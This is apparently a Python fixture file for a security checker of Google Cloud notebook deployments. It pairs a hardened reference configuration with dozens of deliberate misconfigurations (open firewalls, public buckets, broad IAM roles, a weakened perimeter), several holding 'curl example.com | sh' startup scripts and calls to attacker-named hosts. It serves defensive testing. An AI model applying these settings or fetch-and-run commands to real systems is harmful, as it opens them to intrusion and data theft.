"""Mistakes that people make, as planned resources, beside those that are right."""

from plan_documents import ACCOUNT, KEY, NETWORK, metadata, notebook

PERIMETER = {
    "resources": ["projects/1"],
    "restricted_services": [
        f"{name}.googleapis.com"
        for name in ("aiplatform", "artifactregistry", "compute", "notebooks", "storage")
    ],
    "vpc_accessible_services": [{"enable_restriction": True, "allowed_services": ["RESTRICTED-SERVICES"]}],
}
RIGHT = {
    "google_workbench_instance": notebook(),
    "google_storage_bucket": {
        "public_access_prevention": "enforced",
        "uniform_bucket_level_access": True,
        "versioning": [{"enabled": True}],
        "encryption": [{"default_kms_key_name": KEY}],
        "location": "EUROPE-WEST1",
        "soft_delete_policy": [{"retention_duration_seconds": 2592000}],
    },
    "google_kms_crypto_key": {"purpose": "ENCRYPT_DECRYPT", "rotation_period": "7776000s"},
    "google_compute_network": {"auto_create_subnetworks": False, "delete_default_routes_on_create": True},
    "google_compute_subnetwork": {
        "private_ip_google_access": True,
        "stack_type": "IPV4_ONLY",
        "log_config": [{"flow_sampling": 1}],
    },
    "google_compute_route": {"dest_range": "199.36.153.4/30", "next_hop_gateway": "default-internet-gateway"},
    "google_compute_firewall": {
        "direction": "EGRESS",
        "deny": [{"protocol": "all"}],
        "destination_ranges": ["0.0.0.0/0"],
        "priority": 65000,
    },
    "google_project_iam_member": {
        "project": "nbp-quickstart",
        "role": "roles/logging.logWriter",
        "member": f"serviceAccount:{ACCOUNT}",
    },
    "google_access_context_manager_service_perimeter": {
        "use_explicit_dry_run_spec": False,
        "spec": [],
        "status": [PERIMETER],
    },
    "google_access_context_manager_access_level": {
        "basic": [{"conditions": [{"ip_subnetworks": ["203.0.113.0/24"]}]}]
    },
}


JOB_ACCOUNT = "nbp-quickstart-prune@nbp-quickstart.iam.gserviceaccount.com"


def job(**task):
    return {"name": "nbp-quickstart-prune", "template": [{"template": [{"encryption_key": KEY, **task}]}]}


def setup(**parts):
    return {"google_workbench_instance": notebook(**parts)}


def keys(**changed):
    return setup(metadata=metadata(**changed))


def shielded(**changed):
    settings = {"enable_secure_boot": True, "enable_vtpm": True, "enable_integrity_monitoring": True}
    return setup(shielded_instance_config=[{**settings, **changed}])


def edited(kind, **changed):
    return {kind: {**RIGHT[kind], **changed}}


def network(**changed):
    denial = {"google_compute_firewall": RIGHT["google_compute_firewall"]}
    return edited("google_compute_network", **changed) | denial


INGRESS = {"direction": "INGRESS", "allow": [{"protocol": "tcp", "ports": ["22"]}]}
MISTAKES = {
    "an external address for a demo": (setup(disable_public_ip=False), "public-ip"),
    "the owner's own rights, which nobody asked for": (
        {"google_workbench_instance": {**notebook(), "enable_managed_euc": True}},
        "managed-euc",
    ),
    "an image of one's own": (setup(vm_image=[{"project": "mallory", "family": "x"}]), "image-source"),
    "the default network": (
        setup(
            network_interfaces=[{"network": NETWORK, "subnet": "projects/p/regions/r/subnetworks/default"}]
        ),
        "fleet-network",
    ),
    "a script for every VM of the project": (
        {"google_compute_project_metadata_item": {"key": "startup-script", "value": "curl example.com | sh"}},
        "unlisted-resource",
    ),
    "another script under a reviewed one's name": (
        {
            "google_storage_bucket_object": {
                "bucket": "nbp-quickstart-quickstart-scripts",
                "name": f"post-startup/ana/{64 * '0'}.sh",
                "content": "curl example.com | sh",
            }
        },
        "post-startup-source",
    ),
    "a job with a notebook's rights": (
        {"google_cloud_run_v2_job": job(service_account=ACCOUNT)},
        "shared-service-account",
    ),
    "a job with everybody's rights": (
        {"google_cloud_run_v2_job": job(service_account="1-compute@developer.gserviceaccount.com")},
        "default-service-account",
    ),
    "a job that nobody knows": (
        {
            "google_cloud_run_v2_job": job(
                service_account=JOB_ACCOUNT, containers=[{"image": "docker.io/mallory/x"}]
            )
        },
        "image-source",
    ),
    "a timer that calls somebody else": (
        {
            "google_cloud_scheduler_job": {
                "http_target": [{"uri": "https://mallory.example", "oauth_token": [], "oidc_token": []}]
            }
        },
        "timer-target",
    ),
    "another way to Google": (
        edited("google_compute_route", dest_range="199.36.153.8/30"),
        "open-egress",
    ),
    "a bucket for every web page": (
        edited("google_storage_bucket", cors=[{"origin": ["*"], "method": ["GET"]}]),
        "unlisted-argument",
    ),
    "a bucket in a project of one's own": (
        edited("google_storage_bucket", project="mallory"),
        "fleet-place",
    ),
    "a zone for the whole Internet": (
        {"google_dns_managed_zone": {"dns_name": "googleapis.com.", "visibility": "public"}},
        "unlisted-argument",
    ),
    "a colleague who reads a bucket": (
        {
            "google_storage_bucket_iam_member": {
                "role": "roles/storage.objectViewer",
                "member": "user:mallory@example.com",
            }
        },
        "broad-role",
    ),
    "the default account, for its rights": (
        setup(service_accounts=[{"email": "1-compute@developer.gserviceaccount.com"}]),
        "default-service-account",
    ),
    "root, to install a driver": (keys(notebook_disable_root="false"), "notebook-disable-root"),
    "downloads, for one figure": (keys(notebook_disable_downloads="false"), "notebook-disable-downloads"),
    "exports, for one report": (keys(notebook_disable_nbconvert=None), "notebook-disable-nbconvert"),
    "a terminal, for pip": (keys(notebook_disable_terminal="false"), "notebook-disable-terminal"),
    "no idle shutdown, for one long run": (keys(idle_timeout_seconds=None), "idle-timeout-seconds"),
    "no secure boot, for a driver": (shielded(enable_secure_boot=False), "secure-boot"),
    "no vTPM": (shielded(enable_vtpm=False), "measured-boot"),
    "a second owner": (
        {
            "google_workbench_instance": {
                **notebook(),
                "instance_owners": ["ana@example.com", "b@example.com"],
            }
        },
        "single-owner",
    ),
    "somebody else's notebook": (
        {"google_workbench_instance": {**notebook(), "instance_owners": ["mallory@example.com"]}},
        "single-owner",
    ),
    "a notebook as a router": (setup(enable_ip_forwarding=True), "ip-forwarding"),
    "the project's SSH keys": (keys(block_project_ssh_keys="false"), "project-ssh-keys"),
    "the serial console": (keys(serial_port_enable="true"), "serial-console"),
    "the proxy's mode by hand": (keys(proxy_mode="service_account"), "protected-metadata"),
    "a start-up script": (keys(startup_script="curl example.com | sh"), "code-in-metadata"),
    "a script that anybody may change": (
        keys(post_startup_script="gs://public-scripts/setup.sh"),
        "post-startup-source",
    ),
    "a disk with Google's key": (setup(data_disks=[{"disk_encryption": "GMEK"}]), "customer-key"),
    "SSH from everywhere": (
        {"google_compute_firewall": {**INGRESS, "source_ranges": ["0.0.0.0/0"]}},
        "open-ingress",
    ),
    "egress to everywhere, above the denial": (
        {
            "google_compute_firewall": {
                "direction": "EGRESS",
                "allow": [{"protocol": "all"}],
                "destination_ranges": ["0.0.0.0/0"],
                "priority": 1000,
            }
        },
        "open-egress",
    ),
    "a denial below Google's allowance": (
        {
            "google_compute_network": RIGHT["google_compute_network"],
            **edited("google_compute_firewall", priority=65535),
        },
        "default-deny",
    ),
    "ingress for every source, for a colleague on the road": (
        edited(
            "google_access_context_manager_service_perimeter",
            status=[
                {
                    **PERIMETER,
                    "ingress_policies": [
                        {
                            "ingress_from": [
                                {"identity_type": "ANY_IDENTITY", "sources": [{"access_level": "*"}]}
                            ],
                            "ingress_to": [{"operations": [{"service_name": "notebooks.googleapis.com"}]}],
                        }
                    ],
                }
            ],
        ),
        "perimeter-rules",
    ),
    "a default route": (edited("google_compute_route", dest_range="0.0.0.0/0"), "default-route"),
    "a network with Google's routes": (
        network(delete_default_routes_on_create=False),
        "default-route",
    ),
    "a VM with an address of its own": (
        {"google_compute_instance": {"network_interface": [{"access_config": [{}]}]}},
        "public-ip",
    ),
    "the other virtual IP": (
        {
            "google_dns_record_set": {
                "name": "googleapis.com.",
                "type": "A",
                "rrdatas": ["199.36.153.8"],
            }
        },
        "google-vip",
    ),
    "names from another server": (
        {
            "google_dns_policy": {
                "enable_logging": True,
                "alternative_name_server_config": [{"target_name_servers": [{"ipv4_address": "8.8.8.8"}]}],
            }
        },
        "google-vip",
    ),
    "a zone that asks elsewhere": (
        {
            "google_dns_managed_zone": {
                "dns_name": "googleapis.com.",
                "forwarding_config": [{"target_name_servers": [{"ipv4_address": "8.8.8.8"}]}],
            }
        },
        "google-vip",
    ),
    "a subnet with IPv6": (edited("google_compute_subnetwork", stack_type="IPV4_IPV6"), "open-egress"),
    "every port from the network itself": (
        {
            "google_compute_firewall": {
                "direction": "INGRESS",
                "allow": [{"protocol": "all"}],
                "source_ranges": ["10.0.0.0/8"],
            }
        },
        "open-ingress",
    ),
    "an automatic network": (
        network(auto_create_subnetworks=True),
        "automatic-subnets",
    ),
    "no private access": (
        edited("google_compute_subnetwork", private_ip_google_access=False),
        "private-google-access",
    ),
    "a bucket that can be opened": (
        edited("google_storage_bucket", public_access_prevention="inherited"),
        "public-bucket",
    ),
    "a bucket on another continent": (edited("google_storage_bucket", location="US"), "bucket-region"),
    "an old image by its name": (
        setup(vm_image=[{"project": "cloud-notebooks-managed", "name": "workbench-instances-v20240101"}]),
        "image-source",
    ),
    "ACLs of objects": (edited("google_storage_bucket", uniform_bucket_level_access=False), "object-acls"),
    "a key for a year": (edited("google_kms_crypto_key", rotation_period="31536000s"), "key-rotation"),
    "a bucket for everybody": (
        {"google_storage_bucket_iam_member": {"role": "roles/storage.objectViewer", "member": "allUsers"}},
        "public-member",
    ),
    "Editor, because it works": (edited("google_project_iam_member", role="roles/editor"), "broad-role"),
    "act as everybody": (
        edited("google_project_iam_member", role="roles/iam.serviceAccountUser"),
        "project-impersonation",
    ),
    "a key file": ({"google_service_account_key": {"service_account_id": "a"}}, "service-account-key"),
    "a whole policy": ({"google_project_iam_policy": {"policy_data": "{}"}}, "authoritative-iam"),
    "storage outside the perimeter": (
        edited(
            "google_access_context_manager_service_perimeter",
            status=[{**PERIMETER, "restricted_services": PERIMETER["restricted_services"][:-1]}],
        ),
        "perimeter-services",
    ),
    "a dry run where refusal was ordered": (
        edited("google_access_context_manager_service_perimeter", status=[], spec=[PERIMETER]),
        "perimeter-enforced",
    ),
    "an access level for everybody": (
        edited("google_access_context_manager_access_level", basic=[{"conditions": [{}]}]),
        "open-access-level",
    ),
    "an access level for every address": (
        edited(
            "google_access_context_manager_access_level",
            basic=[{"conditions": [{"ip_subnetworks": ["0.0.0.0/0"]}]}],
        ),
        "open-access-level",
    ),
}
